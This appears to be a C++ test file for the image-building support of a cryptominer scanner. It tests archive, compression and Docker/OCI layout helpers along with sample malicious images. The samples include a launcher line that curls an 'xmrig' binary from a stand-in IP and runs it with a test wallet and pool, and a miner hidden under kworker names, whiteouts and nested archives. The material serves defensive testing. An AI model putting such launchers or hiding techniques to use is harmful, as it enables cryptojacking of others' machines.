// Tests of the test support itself: if the builder lied, every image test built on it would too.
// Archives are read back with libarchive's read side and `tar`, digests recomputed independently.
#include <archive.h>
#include <archive_entry.h>
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <iterator>
#include <nlohmann/json.hpp>
#include <set>

#include "image_builder.hpp"
#include "indicators/wallet.hpp"

namespace mg::testing {

// Found by ADL, so test names and failure messages say "gzip" rather than raw bytes.
void PrintTo(Compression compression, std::ostream* os) {
  *os << (compression == Compression::gzip ? "gzip" : compression == Compression::zstd ? "zstd" : "none");
}

namespace {

namespace fs = std::filesystem;
using nlohmann::json;

struct Member {
  std::string path;
  unsigned type = 0;  // AE_IFREG, AE_IFDIR, AE_IFLNK
  std::string content;
  std::int64_t size = 0;
  std::string symlink, hardlink;
};

struct ReadBack {
  std::vector<Member> members;
  int format = 0;
  std::vector<std::string> filters;
};

ReadBack read_archive(const std::string& bytes) {
  ReadBack out;
  archive* a = archive_read_new();
  archive_read_support_filter_all(a);
  archive_read_support_format_all(a);
  EXPECT_EQ(archive_read_open_memory(a, bytes.data(), bytes.size()), ARCHIVE_OK);
  archive_entry* entry = nullptr;
  while (archive_read_next_header(a, &entry) == ARCHIVE_OK) {
    Member m;
    m.path = archive_entry_pathname(entry);
    m.type = archive_entry_filetype(entry);
    m.size = archive_entry_size(entry);
    if (archive_entry_symlink(entry)) m.symlink = archive_entry_symlink(entry);
    if (archive_entry_hardlink(entry)) m.hardlink = archive_entry_hardlink(entry);
    char buffer[8192];
    la_ssize_t n = 0;
    while ((n = archive_read_data(a, buffer, sizeof buffer)) > 0) m.content.append(buffer, static_cast<size_t>(n));
    out.members.push_back(std::move(m));
  }
  out.format = archive_format(a);
  for (int i = 0; i < archive_filter_count(a); ++i) out.filters.push_back(archive_filter_name(a, i));
  archive_read_free(a);
  return out;
}

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

// Runs a command, returns its exit status and stdout.
std::pair<int, std::string> run(const std::string& command) {
  std::string out;
  FILE* pipe = popen(command.c_str(), "r");
  if (!pipe) return {-1, out};
  char buffer[4096];
  size_t n = 0;
  while ((n = fread(buffer, 1, sizeof buffer, pipe)) > 0) out.append(buffer, n);
  const int status = pclose(pipe);
  return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, out};
}

class TempDir : public ::testing::Test {
 protected:
  void SetUp() override {
    const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
    // Parameterised tests have '/' in their names; one flat directory per test and process.
    std::string name = std::string(info->test_suite_name()) + "-" + info->name();
    std::replace(name.begin(), name.end(), '/', '_');
    dir_ = fs::temp_directory_path() / ("mg-sup-" + std::to_string(getpid()) + "-" + name);
    fs::remove_all(dir_);
    fs::create_directories(dir_);
  }
  void TearDown() override { fs::remove_all(dir_); }
  fs::path dir_;
};

TEST(FileSpecHelpers, WhiteoutAndOpaqueNames) {
  EXPECT_EQ(whiteout("opt/.cache/kworker").path, "opt/.cache/.wh.kworker");
  EXPECT_EQ(whiteout("kworker").path, ".wh.kworker");
  EXPECT_EQ(opaque("var/lib").path, "var/lib/.wh..wh..opq");
  EXPECT_EQ(opaque("var/lib/").path, "var/lib/.wh..wh..opq");
  EXPECT_TRUE(whiteout("a/b").content.empty());
}

TEST(MakeTar, MembersReadBackVerbatimIncludingHostileNames) {
  const std::string tar = make_tar({dir("etc"), file("etc/hosts", "127.0.0.1 localhost\n"),
                                    symlink("etc/link", "hosts"), hardlink("etc/hard", "etc/hosts"),
                                    file("../evil", "x"), file("/abs/path", "y", 0755), file("a/./b", "z")});
  const ReadBack back = read_archive(tar);
  ASSERT_EQ(back.members.size(), 7u);
  EXPECT_EQ(back.members[0].type, static_cast<unsigned>(AE_IFDIR));
  EXPECT_EQ(back.members[1].content, "127.0.0.1 localhost\n");
  EXPECT_EQ(back.members[2].symlink, "hosts");
  EXPECT_EQ(back.members[3].hardlink, "etc/hosts");
  EXPECT_EQ(back.members[4].path, "../evil");
  EXPECT_EQ(back.members[5].path, "/abs/path");
  EXPECT_EQ(back.members[6].path, "a/./b");
  EXPECT_EQ(tar.size() % 512, 0u);
}

TEST(MakeTar, FormatsAreTheOnesAskedFor) {
  const std::vector<FileSpec> files = {file("a", "1")};
  EXPECT_EQ(read_archive(make_tar(files, TarFormat::ustar)).format, ARCHIVE_FORMAT_TAR_USTAR);
  EXPECT_EQ(read_archive(make_tar(files, TarFormat::gnutar)).format, ARCHIVE_FORMAT_TAR_GNUTAR);
  // A pax extended header appears once a member needs it (here a name over 100 bytes).
  const std::string long_name(150, 'n');
  const ReadBack pax = read_archive(make_tar({file(long_name, "1")}, TarFormat::pax));
  EXPECT_EQ(pax.format, ARCHIVE_FORMAT_TAR_PAX_INTERCHANGE);
  ASSERT_EQ(pax.members.size(), 1u);
  EXPECT_EQ(pax.members[0].path, long_name);
}

TEST(MakeTar, SameSpecSameBytes) {
  const std::vector<FileSpec> files = {file("a", "1"), dir("d")};
  EXPECT_EQ(make_tar(files), make_tar(files));
}

TEST(MakeTar, SparseFileIsSmallOnDiskAndFullSizeLogically) {
  const std::uint64_t logical = 64ull << 20;
  const std::string tar = make_tar({sparse_file("big.img", "XMRig", logical)});
  EXPECT_LT(tar.size(), 64u * 1024);
  const ReadBack back = read_archive(tar);
  ASSERT_EQ(back.members.size(), 1u);
  EXPECT_EQ(static_cast<std::uint64_t>(back.members[0].size), logical);
  EXPECT_EQ(back.members[0].content.substr(0, 5), "XMRig");
  EXPECT_EQ(back.members[0].content.size(), logical);
}

TEST(MakeZip, MembersReadBack) {
  const ReadBack back = read_archive(make_zip({file("xmrig", "ELF...", 0755), file("config.json", "{}")}));
  EXPECT_EQ(back.format & ARCHIVE_FORMAT_BASE_MASK, ARCHIVE_FORMAT_ZIP);
  ASSERT_EQ(back.members.size(), 2u);
  EXPECT_EQ(back.members[0].path, "xmrig");
  EXPECT_EQ(back.members[0].content, "ELF...");
  EXPECT_EQ(back.members[1].content, "{}");
}

TEST(Compression, GzipRoundTripsAndIsRealGzip) {
  const std::string text(100000, 'a');
  const std::string packed = gzip(text);
  ASSERT_GE(packed.size(), 2u);
  EXPECT_EQ(static_cast<unsigned char>(packed[0]), 0x1f);
  EXPECT_EQ(static_cast<unsigned char>(packed[1]), 0x8b);
  EXPECT_LT(packed.size(), text.size());
  EXPECT_EQ(gunzip(packed), text);
  // libarchive (an independent decoder) agrees it is a gzip'd tar.
  const ReadBack back = read_archive(gzip(make_tar({file("f", "content")})));
  ASSERT_EQ(back.members.size(), 1u);
  EXPECT_EQ(back.members[0].content, "content");
  ASSERT_FALSE(back.filters.empty());
  EXPECT_EQ(back.filters[0], "gzip");
}

TEST(Compression, MultiMemberGzipDecodesToTheConcatenation) {
  const std::string packed = gzip_multi_member({"first ", "second ", "third"});
  EXPECT_EQ(gunzip(packed), "first second third");
  EXPECT_NE(packed, gzip("first second third"));
}

TEST(Compression, ZstdRoundTripsAndIsRealZstd) {
  const std::string text = make_tar({file("f", std::string(50000, 'z'))});
  const std::string packed = zstd(text);
  ASSERT_GE(packed.size(), 4u);
  EXPECT_EQ(packed.substr(0, 4), std::string("\x28\xb5\x2f\xfd", 4));
  EXPECT_EQ(unzstd(packed), text);
  const ReadBack back = read_archive(packed);
  ASSERT_EQ(back.members.size(), 1u);
  EXPECT_EQ(back.filters[0], "zstd");
}

TEST(Compression, CorruptInputThrows) {
  EXPECT_THROW(gunzip("not gzip at all"), std::runtime_error);
  EXPECT_THROW(unzstd("not zstd at all"), std::runtime_error);
  const std::string packed = gzip("some text that is long enough");
  EXPECT_THROW(gunzip(packed.substr(0, packed.size() / 2)), std::runtime_error);
}

TEST(Sha256, KnownVector) {
  EXPECT_EQ(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(sha256_hex(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

// --- images ---------------------------------------------------------------------------------

ImageSpec small_image(Compression compression = Compression::gzip) {
  ImageSpec spec;
  spec.layers.push_back({{dir("etc"), file("etc/os-release", "ID=test\n")}, compression, {}});
  spec.layers.push_back({{file("app.sh", "#!/bin/sh\necho hi\n", 0755), whiteout("etc/os-release")},
                         compression, {}});
  spec.entrypoint = {"/app.sh"};
  spec.cmd = {"--flag"};
  spec.env = {"A=1"};
  spec.labels = {{"k", "v"}};
  spec.history = {"ADD base", "COPY app.sh", "ENTRYPOINT"};
  return spec;
}

class DockerArchive : public TempDir {};

TEST_F(DockerArchive, ClassicLayoutListsWithTarAndIsConsistent) {
  const fs::path out = dir_ / "image.tar";
  write_docker_archive(small_image(), out);
  const auto [status, listing] = run("tar -tf '" + out.string() + "'");
  ASSERT_EQ(status, 0);
  EXPECT_NE(listing.find("manifest.json\n"), std::string::npos);
  EXPECT_NE(listing.find("repositories\n"), std::string::npos);
  EXPECT_NE(listing.find("/layer.tar\n"), std::string::npos);

  const ImageFiles files = docker_archive_files(small_image());
  const json manifest = json::parse(files.at("manifest.json"));
  ASSERT_EQ(manifest.size(), 1u);
  EXPECT_EQ(manifest[0]["RepoTags"][0], "example.test/app:1");
  const std::string config_path = manifest[0]["Config"];
  const std::string config_bytes = files.at(config_path);
  EXPECT_EQ(config_path, sha256_hex(config_bytes) + ".json");
  const json config = json::parse(config_bytes);
  ASSERT_EQ(manifest[0]["Layers"].size(), 2u);
  for (std::size_t i = 0; i < 2; ++i) {
    const std::string layer = files.at(manifest[0]["Layers"][i]);
    // docker save stores layers uncompressed: the blob is what the diff_id hashes.
    EXPECT_EQ(config["rootfs"]["diff_ids"][i], "sha256:" + sha256_hex(layer));
    EXPECT_FALSE(read_archive(layer).members.empty());
  }
  EXPECT_EQ(config["config"]["Entrypoint"], json::array({"/app.sh"}));
  EXPECT_EQ(config["config"]["Labels"]["k"], "v");
  ASSERT_EQ(config["history"].size(), 3u);
  EXPECT_FALSE(config["history"][1].contains("empty_layer"));
  EXPECT_TRUE(config["history"][2]["empty_layer"].get<bool>());
  EXPECT_EQ(read_file(out), make_tar([&] {
              std::vector<FileSpec> members;
              for (const auto& [path, bytes] : files) members.push_back(file(path, bytes));
              return members;
            }()));
}

TEST_F(DockerArchive, Docker25LayoutUsesBlobsAndAnIndex) {
  const ImageFiles files = docker_archive_files(small_image(), {DockerLayout::oci_blobs, false});
  EXPECT_TRUE(files.contains("index.json"));
  EXPECT_TRUE(files.contains("oci-layout"));
  const json manifest = json::parse(files.at("manifest.json"));
  for (const auto& path : manifest[0]["Layers"]) {
    const std::string p = path;
    ASSERT_EQ(p.rfind("blobs/sha256/", 0), 0u);
    EXPECT_EQ(p.substr(13), sha256_hex(files.at(p)));
  }
  const std::string config_path = manifest[0]["Config"];
  EXPECT_EQ(config_path.substr(13), sha256_hex(files.at(config_path)));
}

TEST_F(DockerArchive, KeepLayerCompressionStoresGzipBlobs) {
  const ImageFiles files = docker_archive_files(small_image(), {DockerLayout::classic, true});
  const json manifest = json::parse(files.at("manifest.json"));
  const json config = json::parse(files.at(manifest[0]["Config"].get<std::string>()));
  const std::string blob = files.at(manifest[0]["Layers"][0]);
  EXPECT_EQ(config["rootfs"]["diff_ids"][0], "sha256:" + sha256_hex(gunzip(blob)));
}

class OciLayout : public TempDir, public ::testing::WithParamInterface<Compression> {};

TEST_P(OciLayout, DigestsSizesAndMediaTypesAreRight) {
  const Compression compression = GetParam();
  write_oci_layout(small_image(compression), dir_, "v1");
  EXPECT_EQ(json::parse(read_file(dir_ / "oci-layout"))["imageLayoutVersion"], "1.0.0");
  // Every blob is stored under its own digest.
  std::size_t blobs = 0;
  for (const auto& entry : fs::directory_iterator(dir_ / "blobs" / "sha256")) {
    EXPECT_EQ(entry.path().filename().string(), sha256_hex(read_file(entry.path())));
    ++blobs;
  }
  EXPECT_EQ(blobs, 4u);  // manifest, config, two layers

  const json index = json::parse(read_file(dir_ / "index.json"));
  ASSERT_EQ(index["manifests"].size(), 1u);
  const json& descriptor = index["manifests"][0];
  EXPECT_EQ(descriptor["annotations"]["org.opencontainers.image.ref.name"], "v1");
  EXPECT_EQ(descriptor["mediaType"], "application/vnd.oci.image.manifest.v1+json");
  const std::string manifest_bytes = read_file(dir_ / "blobs/sha256" / descriptor["digest"].get<std::string>().substr(7));
  EXPECT_EQ(descriptor["size"].get<std::size_t>(), manifest_bytes.size());
  const json manifest = json::parse(manifest_bytes);
  EXPECT_EQ(manifest["schemaVersion"], 2);
  EXPECT_EQ(manifest["config"]["mediaType"], "application/vnd.oci.image.config.v1+json");
  const std::string config_bytes = read_file(dir_ / "blobs/sha256" / manifest["config"]["digest"].get<std::string>().substr(7));
  EXPECT_EQ(manifest["config"]["size"].get<std::size_t>(), config_bytes.size());
  const json config = json::parse(config_bytes);

  const char* expected_type = compression == Compression::gzip   ? "application/vnd.oci.image.layer.v1.tar+gzip"
                              : compression == Compression::zstd ? "application/vnd.oci.image.layer.v1.tar+zstd"
                                                                 : "application/vnd.oci.image.layer.v1.tar";
  ASSERT_EQ(manifest["layers"].size(), 2u);
  for (std::size_t i = 0; i < 2; ++i) {
    const json& layer = manifest["layers"][i];
    EXPECT_EQ(layer["mediaType"], expected_type);
    const std::string blob = read_file(dir_ / "blobs/sha256" / layer["digest"].get<std::string>().substr(7));
    EXPECT_EQ(layer["size"].get<std::size_t>(), blob.size());
    const std::string tar = compression == Compression::gzip   ? gunzip(blob)
                            : compression == Compression::zstd ? unzstd(blob)
                                                               : blob;
    EXPECT_EQ(config["rootfs"]["diff_ids"][i], "sha256:" + sha256_hex(tar));
  }
  const ReadBack top = read_archive(read_file(dir_ / "blobs/sha256" / manifest["layers"][1]["digest"].get<std::string>().substr(7)));
  ASSERT_EQ(top.members.size(), 2u);
  EXPECT_EQ(top.members[1].path, "etc/.wh.os-release");
}

INSTANTIATE_TEST_SUITE_P(Compressions, OciLayout,
                         ::testing::Values(Compression::gzip, Compression::zstd, Compression::none),
                         [](const ::testing::TestParamInfo<Compression>& info) {
                           return ::testing::PrintToString(info.param);
                         });

class OciArchive : public TempDir {};

TEST_F(OciArchive, IsATarOfTheLayout) {
  const fs::path out = dir_ / "image.tar";
  write_oci_archive(small_image(), out, "latest");
  const auto [status, listing] = run("tar -tf '" + out.string() + "'");
  ASSERT_EQ(status, 0);
  EXPECT_NE(listing.find("index.json\n"), std::string::npos);
  EXPECT_NE(listing.find("oci-layout\n"), std::string::npos);
  std::set<std::string> expected;
  for (const auto& [path, bytes] : oci_layout_files(small_image(), "latest")) expected.insert(path);
  std::set<std::string> listed;
  for (const auto& m : read_archive(read_file(out)).members) listed.insert(m.path);
  EXPECT_EQ(listed, expected);
}

std::string first_layer_digest(const ImageFiles& files) {
  const json index = json::parse(files.at("index.json"));
  const json manifest = json::parse(files.at("blobs/sha256/" + index["manifests"][0]["digest"].get<std::string>().substr(7)));
  return manifest["layers"][0]["digest"].get<std::string>().substr(7);
}

TEST(Tamper, WrongLayerDigestStoresBytesThatDoNotHashToTheirName) {
  ImageSpec spec = small_image();
  spec.tamper.wrong_layer_digest = true;
  const ImageFiles files = oci_layout_files(spec);
  const std::string hex = first_layer_digest(files);
  ASSERT_TRUE(files.contains("blobs/sha256/" + hex));
  EXPECT_NE(sha256_hex(files.at("blobs/sha256/" + hex)), hex);
}

TEST(Tamper, WrongDiffIdAndMissingBlobAndSize) {
  ImageSpec spec = small_image();
  spec.tamper.wrong_diff_id = true;
  spec.tamper.missing_layer_blob = true;
  spec.tamper.wrong_layer_size = true;
  const ImageFiles files = oci_layout_files(spec);
  EXPECT_FALSE(files.contains("blobs/sha256/" + first_layer_digest(files)));
  const ImageFiles honest = oci_layout_files(small_image());
  const std::string honest_blob = honest.at("blobs/sha256/" + first_layer_digest(honest));
  const json index = json::parse(files.at("index.json"));
  const json manifest = json::parse(files.at("blobs/sha256/" + index["manifests"][0]["digest"].get<std::string>().substr(7)));
  EXPECT_EQ(manifest["layers"][0]["size"].get<std::size_t>(), honest_blob.size() + 1);
  const json config = json::parse(files.at("blobs/sha256/" + manifest["config"]["digest"].get<std::string>().substr(7)));
  EXPECT_NE(config["rootfs"]["diff_ids"][0], "sha256:" + sha256_hex(gunzip(honest_blob)));
}

TEST(Tamper, TextOverridesAndEditHook) {
  ImageSpec spec = small_image();
  spec.tamper.manifest_text = "[{\"Config\": ";
  spec.tamper.edit_files = [](ImageFiles& files) { files.erase("repositories"); };
  const ImageFiles files = docker_archive_files(spec);
  EXPECT_EQ(files.at("manifest.json"), "[{\"Config\": ");
  EXPECT_FALSE(files.contains("repositories"));
  ImageSpec oci = small_image();
  oci.tamper.index_text = "not json";
  EXPECT_EQ(oci_layout_files(oci).at("index.json"), "not json");
}

TEST(Tamper, RawLayerBytesAreStoredAsGiven) {
  ImageSpec spec = small_image();
  spec.layers[0].raw = std::string("\x1f\x8b\x08\x00garbage", 12);
  const ImageFiles files = oci_layout_files(spec);
  EXPECT_EQ(files.at("blobs/sha256/" + first_layer_digest(files)), spec.layers[0].raw);
}

// --- miner look-alikes ----------------------------------------------------------------------

TEST(TestMiner, CarriesXmrigStrings) {
  const std::string bytes = test_miner_binary();
  EXPECT_EQ(bytes.substr(0, 4), "\x7f" "ELF");
  for (const char* needle :
       {" * ABOUT        XMRig/6.21.0 gcc/12.2.0", "--donate-level", "--cpu-max-threads-hint",
        "--randomx-mode", "stratum+tcp://pool.supportxmr.com:3333", "pool.minexmr.com",
        "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\",\"pass\":\"%s\","
        "\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\",\"algo\":[\"rx/0\",\"cn/r\"]}}",
        "rx/0", "cn/r", "cn-pico", "rx/wow", "argon2/chukwa", "RandomX\x03", "donate-level",
        "cpu-max-threads-hint", "randomx-mode", "nicehash", "keepalive", "background", "coin"}) {
    EXPECT_NE(bytes.find(needle), std::string::npos) << needle;
  }
}

TEST(TestMiner, PrintsItsBannerAndExits) {
  const auto [status, out] = run(std::string("'") + MG_TEST_MINER_PATH + "' --help");
  EXPECT_EQ(status, 0);
  EXPECT_NE(out.find("XMRig/6.21.0"), std::string::npos);
  EXPECT_NE(out.find("--donate-level=N"), std::string::npos);
  EXPECT_NE(out.find("exiting without mining"), std::string::npos);
}

TEST(TestWallet, NinetyFiveCharsAndChecksumVerifies) {
  const std::string wallet = make_test_monero_address(42);
  EXPECT_EQ(wallet.size(), 95u);
  EXPECT_EQ(wallet[0], '4');  // mainnet standard addresses start with 4
  const auto parsed = mg::indicators::parse_monero_address(wallet);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->network, mg::indicators::MoneroNetwork::mainnet);
  EXPECT_EQ(parsed->type, mg::indicators::MoneroAddressType::standard);
  EXPECT_EQ(make_test_monero_address(42), wallet);
  EXPECT_NE(make_test_monero_address(43), wallet);
  std::string broken = wallet;
  broken[50] = broken[50] == 'A' ? 'B' : 'A';
  EXPECT_FALSE(mg::indicators::parse_monero_address(broken).has_value());
}

TEST(MinerContent, ConfigAndLauncherCarryTheWallet) {
  const std::string wallet = test_wallet();
  const json config = json::parse(xmrig_config_json(wallet));
  EXPECT_EQ(config["pools"][0]["user"], wallet);
  EXPECT_EQ(config["pools"][0]["url"], "stratum+tcp://pool.supportxmr.com:3333");
  EXPECT_EQ(config["donate-level"], 1);
  EXPECT_TRUE(config["randomx"].is_object());
  const std::string script = launcher_script(wallet);
  EXPECT_EQ(script.rfind("#!/bin/sh\ncurl -sL -o /tmp/.x http://198.51.100.7/xmrig", 0), 0u);
  EXPECT_NE(script.find("-u " + wallet + " -p x --donate-level 1 &"), std::string::npos);
}

TEST(RealSystemFiles, BoundedRelativeAndReadable) {
  const auto files = real_system_files(30, 2u << 20);
  ASSERT_FALSE(files.empty());
  EXPECT_LE(files.size(), 30u);
  std::uint64_t total = 0;
  std::set<std::string> tops;
  for (const auto& f : files) {
    ASSERT_FALSE(f.path.empty());
    EXPECT_NE(f.path[0], '/');
    total += f.content.size();
    tops.insert(f.path.substr(0, f.path.find('/')));
  }
  EXPECT_LE(total, 2u << 20);
  EXPECT_TRUE(tops.contains("usr"));
  EXPECT_TRUE(tops.contains("etc"));
}

// --- sample images --------------------------------------------------------------------------

std::map<std::string, std::string> all_files(const ImageSpec& spec) {
  std::map<std::string, std::string> out;
  for (const auto& layer : spec.layers)
    for (const auto& f : layer.files) out[f.path] = f.content;
  return out;
}

TEST(SampleImages, MinerImageLooksLikeThe2020AttackerImage) {
  const ImageSpec spec = miner_image(SampleOptions{Compression::gzip, 5, 1u << 20});
  const auto files = all_files(spec);
  EXPECT_EQ(files.at("usr/local/bin/.kworker"), test_miner_binary());
  EXPECT_NE(files.at("root/.xmrig.json").find(test_wallet()), std::string::npos);
  EXPECT_EQ(files.at("entrypoint.sh"), launcher_script(test_wallet()));
  EXPECT_EQ(spec.entrypoint, std::vector<std::string>{"/entrypoint.sh"});
  EXPECT_EQ(spec.repo_tag, "ddsfdfsaadfs/dfsdf:99");
  bool curl_line = false;
  for (const auto& h : spec.history) curl_line = curl_line || (h.find("curl") != std::string::npos && h.find("xmrig") != std::string::npos);
  EXPECT_TRUE(curl_line);
}

TEST(SampleImages, TfImageHasNoMinerFileButAMinerCommand) {
  const ImageSpec spec = tf_like_image(SampleOptions{Compression::zstd, 5, 1u << 20});
  for (const auto& [path, content] : all_files(spec)) EXPECT_EQ(content.find("XMRig/"), std::string::npos) << path;
  ASSERT_EQ(spec.cmd.size(), 3u);
  EXPECT_EQ(spec.cmd[0], "sh");
  EXPECT_NE(spec.cmd[2].find("xmrig"), std::string::npos);
  EXPECT_NE(spec.cmd[2].find(test_wallet()), std::string::npos);
  EXPECT_EQ(spec.layers[0].compression, Compression::zstd);
}

TEST(SampleImages, HiddenMinerIsWhitedOutAndNested) {
  const ImageSpec spec = hidden_miner_image(SampleOptions{Compression::gzip, 5, 1u << 20});
  const auto files = all_files(spec);
  EXPECT_EQ(files.at("opt/.cache/kworker"), test_miner_binary());
  EXPECT_TRUE(files.contains("opt/.cache/.wh.kworker"));
  const ReadBack nested = read_archive(files.at("usr/share/fonts/.cache.tar.gz"));
  ASSERT_FALSE(nested.members.empty());
  EXPECT_EQ(nested.members[0].content, test_miner_binary());
  const ReadBack zipped = read_archive(files.at("var/tmp/.tools.zip"));
  ASSERT_FALSE(zipped.members.empty());
  EXPECT_EQ(zipped.members[0].content, test_miner_binary());
}

TEST(SampleImages, CleanImageHoldsNoMinerStrings) {
  const ImageSpec spec = clean_image(SampleOptions{Compression::gzip, 20, 2u << 20});
  ASSERT_EQ(spec.layers.size(), 2u);
  EXPECT_EQ(spec.cmd, std::vector<std::string>{"/bin/sh"});
  for (const auto& [path, content] : all_files(spec)) {
    EXPECT_EQ(content.find("stratum+tcp://"), std::string::npos) << path;
    EXPECT_EQ(content.find("XMRig/"), std::string::npos) << path;
  }
}

// --- mg-make-image --------------------------------------------------------------------------

class MakeImageCli : public TempDir {};

TEST_F(MakeImageCli, BadArgumentsExitTwoWithOneLine) {
  for (const std::string args : {"", "--kind miner", "--kind nope --format oci --out x",
                                 "--kind miner --format zip --out x", "--bogus 1",
                                 "--kind miner --format oci --out x --compression lz4"}) {
    const auto [status, out] = run(std::string("'") + MG_MAKE_IMAGE_PATH + "' " + args + " 2>&1");
    EXPECT_EQ(status, 2) << args;
    EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 1) << out;
  }
}

TEST_F(MakeImageCli, WritesEachFormat) {
  const std::string tool = std::string("'") + MG_MAKE_IMAGE_PATH + "'";
  const std::string small = " --base-files 5 --base-bytes 500000";
  EXPECT_EQ(run(tool + " --kind miner --format docker-archive --out '" + (dir_ / "a.tar").string() + "'" + small).first, 0);
  EXPECT_EQ(run(tool + " --kind tf --format oci-archive --compression zstd --out '" + (dir_ / "b.tar").string() + "'" + small).first, 0);
  EXPECT_EQ(run(tool + " --kind clean --format oci --out '" + (dir_ / "c").string() + "'" + small).first, 0);
  EXPECT_TRUE(fs::exists(dir_ / "c" / "index.json"));
  const auto [status, listing] = run("tar -tf '" + (dir_ / "a.tar").string() + "'");
  EXPECT_EQ(status, 0);
  EXPECT_NE(listing.find("manifest.json"), std::string::npos);
  EXPECT_NE(read_archive(read_file(dir_ / "b.tar")).members.size(), 0u);
}

}  // namespace
}  // namespace mg::testing
